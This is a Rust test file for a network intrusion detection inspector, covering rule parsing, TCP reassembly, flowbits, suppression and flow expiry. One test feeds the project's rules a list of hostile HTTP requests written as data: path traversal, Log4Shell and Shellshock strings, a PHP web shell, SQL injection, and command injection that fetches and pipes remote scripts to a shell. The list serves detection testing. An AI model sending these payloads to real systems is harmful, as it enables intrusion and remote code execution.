//! The inspector from outside: frames in, alerts out; and the rules of rules/.

use std::path::{Path, PathBuf};

use etherparse::PacketBuilder;

use super::*;
use crate::packet::{Direction, Packet, Tcp};

const ATTACKER: [u8; 4] = [203, 0, 113, 7];
const DECOY: [u8; 4] = [10, 77, 0, 11];

/// A network of one attacker and one decoy, and the time.
struct Wire {
    inspector: Inspector,
    time_us: u64,
    alerts: Vec<u32>,
}

/// One TCP connection from the attacker, with the next sequence number of each side.
struct Connection {
    port: u16,
    server_port: u16,
    client_seq: u32,
    server_seq: u32,
}

impl Wire {
    fn with_rules(rules: &str) -> Wire {
        let (set, diagnostics) = RuleSet::parse(Path::new("test.rules"), rules, &Variables::default());
        assert_eq!(diagnostics, []);
        Wire { inspector: Inspector::new(set), time_us: 1_000_000, alerts: Vec::new() }
    }

    fn with_rules_of_the_project() -> Wire {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
        let names = ["classification.config", "scan.rules", "ssh.rules", "web.rules", "malware.rules"];
        let files: Vec<PathBuf> = names.iter().map(|name| folder.join(name)).collect();
        let (inspector, diagnostics) = Inspector::load(&files, &Variables::with_home_net("10.77.0.0/24"));
        assert_eq!(diagnostics, []);
        Wire { inspector, time_us: 1_000_000, alerts: Vec::new() }
    }

    fn frame(&mut self, frame: &[u8]) -> Verdict {
        self.time_us += 1_000;
        let verdict = self.inspector.inspect(&Packet::decode(frame, self.time_us), Direction::ToDecoy);
        self.alerts.extend(verdict.alerts.iter().map(|alert| alert.rule.sid));
        verdict
    }

    fn tcp(&mut self, from_client: bool, ports: (u16, u16), seq: u32, flags: u8, payload: &[u8]) -> Verdict {
        let (source, destination) = if from_client { (ATTACKER, DECOY) } else { (DECOY, ATTACKER) };
        let mut builder = PacketBuilder::ethernet2([2; 6], [4; 6])
            .ipv4(source, destination, 64)
            .tcp(ports.0, ports.1, seq, 64240);
        if flags & Tcp::SYN != 0 {
            builder = builder.syn();
        }
        if flags & Tcp::ACK != 0 {
            builder = builder.ack(1);
        }
        if flags & Tcp::RST != 0 {
            builder = builder.rst();
        }
        let mut frame = Vec::new();
        builder.write(&mut frame, payload).unwrap();
        self.frame(&frame)
    }

    fn connect(&mut self, port: u16, server_port: u16) -> Connection {
        self.tcp(true, (port, server_port), 99, Tcp::SYN, b"");
        self.tcp(false, (server_port, port), 499, Tcp::SYN | Tcp::ACK, b"");
        self.tcp(true, (port, server_port), 100, Tcp::ACK, b"");
        Connection { port, server_port, client_seq: 100, server_seq: 500 }
    }

    fn say(&mut self, connection: &mut Connection, data: &[u8]) -> Verdict {
        let seq = connection.client_seq;
        connection.client_seq += data.len() as u32;
        self.tcp(true, (connection.port, connection.server_port), seq, Tcp::ACK, data)
    }

    fn answer(&mut self, connection: &mut Connection, data: &[u8]) -> Verdict {
        let seq = connection.server_seq;
        connection.server_seq += data.len() as u32;
        self.tcp(false, (connection.server_port, connection.port), seq, Tcp::ACK, data)
    }

    fn login_by_ssh(&mut self, port: u16) {
        let mut connection = self.connect(port, 22);
        self.say(&mut connection, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n");
        self.answer(&mut connection, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n");
        self.say(&mut connection, &[7; 1200]);
        self.answer(&mut connection, &[9; 900]);
    }

    fn count(&self, sid: u32) -> usize {
        self.alerts.iter().filter(|alert| **alert == sid).count()
    }
}

const SIGNATURE: &str =
    r#"alert tcp any any -> any any (msg:"x"; flow:established,to_server; content:"ATTACK"; sid:1;)"#;

#[test]
fn content_in_one_segment_alerts_once() {
    let mut wire = Wire::with_rules(SIGNATURE);
    let mut connection = wire.connect(4000, 80);
    wire.say(&mut connection, b"an ATTACK");
    assert_eq!(wire.alerts, [1]);
    wire.tcp(true, (4000, 80), 100, Tcp::ACK, b"an ATTACK");
    wire.say(&mut connection, b" and more");
    assert_eq!(wire.alerts, [1], "retransmission or later data alerted again");
    wire.say(&mut connection, b"ATTACK");
    assert_eq!(wire.alerts, [1, 1]);
}

#[test]
fn content_split_over_segments_alerts_in_any_order() {
    for order in [[0, 1, 2], [2, 1, 0], [1, 0, 2], [0, 2, 1]] {
        let mut wire = Wire::with_rules(SIGNATURE);
        wire.connect(4000, 80);
        for part in order {
            let (at, data) = [(0, &b"AT"[..]), (2, b"TA"), (4, b"CK")][part];
            wire.tcp(true, (4000, 80), 100 + at, Tcp::ACK, data);
        }
        assert_eq!(wire.alerts, [1], "{order:?}");
    }
}

#[test]
fn direction_and_state_of_the_flow_are_asked() {
    let mut wire = Wire::with_rules(SIGNATURE);
    let mut connection = wire.connect(4000, 80);
    wire.answer(&mut connection, b"ATTACK");
    wire.tcp(true, (5000, 80), 1, Tcp::SYN, b"ATTACK");
    assert_eq!(wire.alerts, Vec::<u32>::new());
}

#[test]
fn drop_ends_the_connection_and_pass_silences_alerts() {
    let mut wire = Wire::with_rules(
        r#"drop tcp any any -> any any (content:"ATTACK"; sid:1;)
        alert tcp any any -> any any (content:"harmless"; sid:2;)
        pass tcp any any -> any any (content:"harmless"; sid:3;)"#,
    );
    let mut connection = wire.connect(4000, 80);
    assert_eq!(wire.say(&mut connection, b"harmless").action, Action::Pass);
    assert_eq!(wire.alerts, Vec::<u32>::new());
    assert_eq!(wire.say(&mut connection, b"ATTACK").action, Action::Drop);
    assert_eq!(wire.say(&mut connection, b"more").action, Action::SilentDrop);
    assert_eq!(wire.alerts, [1]);
}

#[test]
fn uri_is_matched_normalised_and_over_segments() {
    let mut wire = Wire::with_rules(
        r#"alert tcp any any -> any any (flow:to_server; uricontent:"/etc/passwd"; nocase; sid:1;)"#,
    );
    let mut connection = wire.connect(4000, 80);
    wire.say(&mut connection, b"GET /x/..%2f%65tc//pas");
    wire.say(&mut connection, b"swd HTTP/1.1\r\nHost: a\r\n\r\n");
    wire.answer(&mut connection, b"HTTP/1.1 404 Not Found\r\n\r\n");
    wire.say(&mut connection, b"GET /?/etc/passwd HTTP/1.1\r\n\r\n");
    assert_eq!(wire.alerts, [1, 1]);
}

#[test]
fn expression_that_needs_a_later_segment_alerts_though_its_content_came_before() {
    let mut wire = Wire::with_rules(
        r#"alert tcp any any -> any any (content:"PASS"; pcre:"/^PASS\s[^\n]*%n/smi"; sid:1;)
        alert tcp any any -> any any (content:"PASS"; isdataat:20,relative; sid:2;)"#,
    );
    let mut connection = wire.connect(4000, 110);
    wire.say(&mut connection, b"PASS aaaaaaaa");
    assert_eq!(wire.alerts, Vec::<u32>::new());
    wire.say(&mut connection, b"bbbbbbbbbbbb%n\n");
    assert_eq!(wire.alerts, [1, 2]);
}

#[test]
fn flowbits_join_rules() {
    let mut wire = Wire::with_rules(
        r#"alert tcp any any -> any any (content:"LOGIN"; flowbits:set,in; flowbits:noalert; sid:1;)
        alert tcp any any -> any any (content:"DELETE"; flowbits:isset,in; sid:2;)"#,
    );
    let mut connection = wire.connect(4000, 80);
    wire.say(&mut connection, b"DELETE");
    assert_eq!(wire.alerts, Vec::<u32>::new());
    wire.say(&mut connection, b"LOGIN");
    wire.say(&mut connection, b"DELETE");
    assert_eq!(wire.alerts, [2]);
}

#[test]
fn bad_rules_are_said_with_file_line_and_column_and_the_rest_is_loaded() {
    let text = "alert tcp any any -> any any (sid:1;)\n# x\nalert tcp any any -> any any ( \\\n  frob:1; sid:2;)\nfoo\n\
                alert tcp any any -> any any (sid:1;)\nevent_filter gen_id 1\n";
    let (set, diagnostics) = RuleSet::parse(Path::new("a.rules"), text, &Variables::default());
    assert_eq!(set.rules.len(), 1);
    let said: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
    assert_eq!(
        said,
        [
            "a.rules:4:3: option \"frob\" is not supported",
            "a.rules:5:1: unknown action or directive \"foo\"",
            "a.rules:6:1: sid 1:1 is already used in a.rules",
            "a.rules:7:14: option event_filter: sig_id is missing: \"gen_id 1\"",
        ]
    );
}

#[test]
fn missing_file_is_said_and_include_is_followed() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("b.rules"), "alert ip any any -> any any (sid:2;)\n").unwrap();
    std::fs::write(folder.path().join("a.rules"), "include b.rules\ninclude none.rules\ninclude a.rules\n")
        .unwrap();
    let (inspector, diagnostics) = Inspector::load(&[folder.path().join("a.rules")], &Variables::default());
    assert_eq!(inspector.rule_count(), 1);
    assert!(diagnostics.iter().any(|said| said.message.starts_with("cannot read file")));
    assert!(diagnostics.iter().any(|said| said.message.starts_with("include is nested")));
}

#[test]
fn suppression_and_event_filter_apply_to_their_rule() {
    let mut wire = Wire::with_rules(
        "alert icmp any any -> any any (itype:8; sid:1;)\nalert icmp any any -> any any (itype:8; sid:2;)\n\
         suppress gen_id 1, sig_id 1, track by_src, ip [203.0.113.0/24,192.0.2.1]\n\
         event_filter gen_id 1, sig_id 2, type limit, track by_src, count 2, seconds 60\n",
    );
    for sequence in 0..5 {
        let builder = PacketBuilder::ethernet2([2; 6], [4; 6])
            .ipv4(ATTACKER, DECOY, 64)
            .icmpv4_echo_request(1, sequence);
        let mut frame = Vec::new();
        builder.write(&mut frame, b"ping").unwrap();
        wire.frame(&frame);
    }
    assert_eq!(wire.alerts, [2, 2]);
}

#[test]
fn scan_of_many_ports_alerts_a_few_times_and_a_login_does_not() {
    let mut wire = Wire::with_rules_of_the_project();
    for port in 1..=200 {
        wire.tcp(true, (50_000, port), 7, Tcp::SYN, b"");
        wire.tcp(false, (port, 50_000), 0, Tcp::RST | Tcp::ACK, b"");
    }
    assert_eq!(wire.count(9_000_001), 1);
    assert!(wire.alerts.len() <= 4, "{:?}", wire.alerts);

    let mut wire = Wire::with_rules_of_the_project();
    wire.login_by_ssh(40_000);
    assert_eq!(wire.alerts, Vec::<u32>::new());
}

#[test]
fn guessing_passwords_by_ssh_alerts_once_a_minute() {
    let mut wire = Wire::with_rules_of_the_project();
    for index in 0..8 {
        wire.login_by_ssh(40_000 + index);
        wire.time_us += 5_000_000;
    }
    assert_eq!(wire.alerts, [9_000_101]);
}

#[test]
fn web_attacks_are_found_by_the_rules_of_the_project() {
    for (request, sid) in [
        ("GET /../../etc/passwd HTTP/1.1\r\n\r\n", 9_000_201),
        ("GET /%2e%2e/x HTTP/1.1\r\n\r\n", 9_000_202),
        ("GET /cgi?f=/etc/passwd HTTP/1.1\r\n\r\n", 9_000_204),
        ("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n\r\n", 9_000_220),
        ("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Nikto/2.1.6)\r\n\r\n", 9_000_221),
        ("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n\r\n", 9_000_222),
        ("GET / HTTP/1.1\r\nUser-Agent: gobuster/3.5\r\n\r\n", 9_000_223),
        ("GET /admin HTTP/1.1\r\n\r\n", 9_000_230),
        ("GET / HTTP/1.1\r\nX: ${jndi:ldap://a/b}\r\n\r\n", 9_000_240),
        ("GET / HTTP/1.1\r\nX: ${${lower:j}ndi:ldap://a/b}\r\n\r\n", 9_000_241),
        ("GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n\r\n", 9_000_242),
        ("POST /u HTTP/1.1\r\nContent-Length: 33\r\n\r\n<?php system($_GET['c']); ?>      ", 9_000_243),
        ("GET /?c=wget%20http://a/b.sh%20-O-|sh HTTP/1.1\r\n\r\n", 9_000_246),
        ("POST /x HTTP/1.1\r\nContent-Length: 24\r\n\r\nc=curl+http://a/b+|+bash", 9_000_247),
        ("GET /?id=1+UNION+SELECT+1 HTTP/1.1\r\n\r\n", 9_000_250),
    ] {
        let mut wire = Wire::with_rules_of_the_project();
        let mut connection = wire.connect(4000, 80);
        wire.say(&mut connection, request.as_bytes());
        assert!(wire.alerts.contains(&sid), "{request:?} gave {:?}", wire.alerts);
    }
}

#[test]
fn a_visit_of_a_browser_does_not_alert() {
    let mut wire = Wire::with_rules_of_the_project();
    let mut connection = wire.connect(4000, 80);
    wire.say(
        &mut connection,
        b"GET /index.html?a=b%20c HTTP/1.1\r\nHost: shop\r\nUser-Agent: Mozilla/5.0\r\nCookie: a=1\r\n\r\n",
    );
    wire.answer(&mut connection, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
    assert_eq!(wire.alerts, Vec::<u32>::new());
}

#[test]
fn flow_ends_by_reset_and_by_silence_and_has_its_counts() {
    let mut wire = Wire::with_rules(SIGNATURE);
    let mut connection = wire.connect(4000, 80);
    wire.say(&mut connection, b"ATTACK");
    wire.tcp(false, (80, 4000), 500, Tcp::RST, b"");
    wire.tcp(true, (4001, 81), 1, Tcp::SYN, b"");
    assert_eq!(wire.inspector.expire(wire.time_us), []);
    let mut records = wire.inspector.expire(wire.time_us + 70_000_000);
    records.sort_by_key(|record| record.flow.flow_id);
    assert_eq!(records.len(), 2);
    assert_eq!((records[0].reason, records[0].alerts), (FlowEnd::Closed, 1));
    assert_eq!((records[0].packets_to_server, records[0].packets_to_client), (3, 2));
    assert_eq!((records[1].reason, records[1].flow.dest_port), (FlowEnd::Timeout, 81));
    assert_eq!(wire.inspector.flow_count(), 0);
}

#[test]
fn flipped_bits_and_cuts_never_panic() {
    let mut wire = Wire::with_rules_of_the_project();
    let builder = PacketBuilder::ethernet2([2; 6], [4; 6]).ipv4(ATTACKER, DECOY, 64).tcp(1, 80, 1, 1).ack(1);
    let mut frame = Vec::new();
    builder.write(&mut frame, b"GET /%2e%2e/ HTTP/1.1\r\n\r\n").unwrap();
    for bit in 0..frame.len() * 8 {
        let mut frame = frame.clone();
        frame[bit / 8] ^= 1 << (bit % 8);
        wire.frame(&frame);
        wire.frame(&frame[..bit / 8]);
    }
}
